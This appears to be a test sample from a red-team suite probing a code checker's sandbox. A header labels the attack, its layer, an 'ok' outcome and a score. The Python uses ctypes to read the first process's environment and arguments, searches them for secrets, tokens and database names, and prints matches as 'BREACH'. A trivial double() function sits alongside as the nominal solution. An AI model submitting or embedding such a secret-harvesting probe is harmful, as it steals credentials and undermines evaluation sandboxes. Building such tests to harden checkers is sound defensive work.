# attack: read the arguments and the environment that the first process was started with, from the stack
# layer: checker
# outcome: ok
# score: 2
import ctypes
import os

libc = ctypes.CDLL(None)
environ = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
texts = []
for n in range(200):
    if environ[n] is None:
        break
    texts.append(environ[n])
argv, argc = ctypes.POINTER(ctypes.c_wchar_p)(), ctypes.c_int()
ctypes.pythonapi.Py_GetArgcArgv(ctypes.byref(argc), ctypes.byref(argv))
texts += [argv[n].encode(errors="replace") for n in range(argc.value)]
assert texts
for text in texts:
    for word in (b"SECRET", b"PASSWORD", b"TOKEN", b"DATABASE", b"REDIS", b"hidden", b"DJANGO", b"/root", b"SOCKET"):
        if word in text.upper() and b"sys.path.insert" not in text and not text.startswith((b"PATH=", b"{")):
            os.write(1, b"BREACH " + text[:200])


def double(x):
    return x * 2
